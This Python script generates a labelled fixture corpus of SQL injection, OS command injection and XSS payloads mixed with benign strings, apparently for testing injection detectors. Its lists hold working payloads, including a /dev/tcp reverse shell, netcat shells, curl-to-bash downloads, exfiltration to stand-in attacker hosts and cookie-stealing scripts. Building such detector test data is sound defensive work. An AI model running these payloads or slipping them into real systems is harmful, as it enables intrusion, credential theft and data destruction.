#!/usr/bin/env python3
"""Generate the 300-payload fixture corpus used by the feature-extraction
oracle tests (100 per detector family, attacks and benign mixed).

Deterministic; the output is committed at tests/fixtures/payloads_300.jsonl.
"""

import json
import random
from pathlib import Path

OUT = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "payloads_300.jsonl"

SQL_ATTACKS = [
    "' OR '1'='1' --",
    "admin' --",
    "1; DROP TABLE users--",
    "' UNION SELECT username, password FROM users--",
    "1' AND SLEEP(5)--",
    "'; WAITFOR DELAY '0:0:5'--",
    "1 OR 1=1",
    "' OR 'a'='a",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    "SELECT * FROM information_schema.tables",
    "1'; EXEC xp_cmdshell('dir'); --",
    "%27%20OR%20%271%27%3D%271",
    "0x27206f7220313d31",
    "' UNION ALL SELECT NULL, CONCAT(user,0x3a,password) FROM mysql.user --",
    "SELECT name FROM t WHERE id IN (SELECT id FROM u)",
    "BENCHMARK(5000000, MD5('A'))",
    "' OR 1=1 LIMIT 1 -- -+",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))bAKL)",
    "') OR ('1'='1",
    "' GROUP BY password HAVING 1=1 --",
    "INSERT INTO users (u, p) VALUES ('peter', 'x')",
    "UPDATE accounts SET balance = 1e9 WHERE id = 1; --",
    "DELETE FROM logs; DROP TABLE audit; --",
    "CAST(version() AS CHAR)",
    "SELECT schema_name FROM information_schema.schemata",
    "ORDER BY 10 --",
    "' AND ASCII(SUBSTRING((SELECT database()),1,1)) > 64 --",
    "pg_sleep(10) --",
    "'||(SELECT version())||'",
    "x' XOR NOT 1=1 --",
]

OS_ATTACKS = [
    "ls; whoami | sudo chmod 777 /",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.5 4444",
    "`id`",
    "$(whoami)",
    "wget http://evil.example/shell.sh && sh shell.sh",
    "curl http://10.1.2.3/x | bash",
    "ping -c 4 127.0.0.1; uname -a",
    "a && rm -rf / --no-preserve-root",
    "|| cat /etc/shadow",
    "; env | base64",
    "scp secrets.txt attacker@evil:/tmp/",
    "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "python -c 'import os; os.system(\"id\")'",
    "sudo su - root",
    "chmod +x backdoor && ./backdoor",
    "; mkfifo /tmp/f; cat /tmp/f | sh",
    "echo ${IFS}pwned",
    "tar cf - / | ssh evil 'cat > all.tar'",
    "kill -9 1; shutdown now",
    "netstat -an; ifconfig; ps aux",
    "crontab -l; echo '* * * * * nc evil 53' | crontab -",
    "a; passwd root",
    "nohup nc -lvp 9999 &",
    "%0Acat%20/etc/passwd",
    "sh -c 'curl http://x.y/p.sh | sh'",
    "powershell -enc SQBFAFgA",
    "$(curl http://169.254.169.254/)",
    "tee /etc/sudoers <<< 'web ALL=(ALL) NOPASSWD:ALL'",
    "xargs -I{} rm {} < filelist",
]

XSS_ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert('xss')\"></iframe>",
    "<svg/onload=alert(document.cookie)>",
    "<body onload=prompt(1)>",
    "javascript:alert(String.fromCharCode(88,83,83))",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<input onfocus=alert(1) autofocus>",
    "<a href=\"javascript:void(0)\" onclick=\"eval(atob('YWxlcnQoMSk='))\">x</a>",
    "<script src=\"http://evil.example/x.js\"></script>",
    "\"><script>document.write('<img src=http://e/c?'+document.cookie+'>')</script>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5=\"></object>",
    "<video><source onerror=\"fetch('http://evil/'+document.cookie)\">",
    "<marquee onstart=confirm(1)>",
    "<style>@import 'http://evil/x.css';</style>",
    "<form action=\"http://evil/steal\"><input name=q></form>",
    "<embed src=\"http://evil/f.swf\">",
    "<script>setTimeout(function(){location='http://e/'+escape(document.cookie)},1)</script>",
    "<ScRiPt>unescape('%61%6c%65%72%74')</ScRiPt>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "'\"><svg onload=window.open('//evil')>",
    "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\">",
    "<script>new Function('ale'+'rt(1)')()</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<audio src=x onerror=XMLHttpRequest()>",
    "<details open ontoggle=alert(1)>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "on error resume next: document.writeln('<script>x</script>')",
]

BENIGN = [
    "alice@example.com",
    "Please update my shipping address to 42 Main Street.",
    "The select committee will meet on Friday.",
    "I read the javascript tutorial at http://a.com",
    "order #12345 status",
    "My favorite operator is the pipe character in unix pipelines.",
    "He dropped the table lamp and it broke.",
    "union members voted to approve the contract",
    "what's the weather like",
    "café naïve résumé",
    "príliš žluťoučký kůň úpěl ďábelské ódy",
    "SELECT is my favorite SQL keyword to teach",
    "echo chamber effects in social networks",
    "a < b and b > c",
    "5 % 3 == 2",
    "C:\\Users\\alice\\Documents\\report.docx",
    "/home/user/photos/2024",
    "https://docs.example.com/guide?page=2&lang=en",
    "curl is a popular command line tool",
    "the script of the play was excellent",
    "img_2024_06_01.jpg",
    "password reset please",
    "2 + 2 = 4",
    "(parentheses) [brackets] {braces}",
    "no special content here",
    "emoji test \U0001F600 \u2603",
    "tabs\tand\nnewlines",
    "trailing spaces   ",
    "",
    "UNION STATION is a landmark",
]


def mutate(rng, text):
    choice = rng.random()
    if choice < 0.25:
        return text.upper()
    if choice < 0.5:
        return "  " + text
    if choice < 0.75:
        return text + " #" + str(rng.randint(1, 99))
    return text.replace(" ", "  ", 1)


def main():
    rng = random.Random(300)
    rows = []
    for family, attacks in (("sqli", SQL_ATTACKS), ("osi", OS_ATTACKS),
                            ("xss", XSS_ATTACKS)):
        payloads = list(attacks)
        while len(payloads) < 70:
            payloads.append(mutate(rng, rng.choice(attacks)))
        benign = list(BENIGN)
        while len(benign) < 30:
            benign.append(mutate(rng, rng.choice(BENIGN)))
        for text in payloads[:70]:
            rows.append({"family": family, "payload": text})
        for text in benign[:30]:
            rows.append({"family": family, "payload": text})
    assert len(rows) == 300
    OUT.parent.mkdir(parents=True, exist_ok=True)
    with open(OUT, "w", encoding="utf-8") as fh:
        for row in rows:
            fh.write(json.dumps(row, ensure_ascii=False) + "\n")
    print(f"wrote {len(rows)} payloads to {OUT}")


if __name__ == "__main__":
    main()
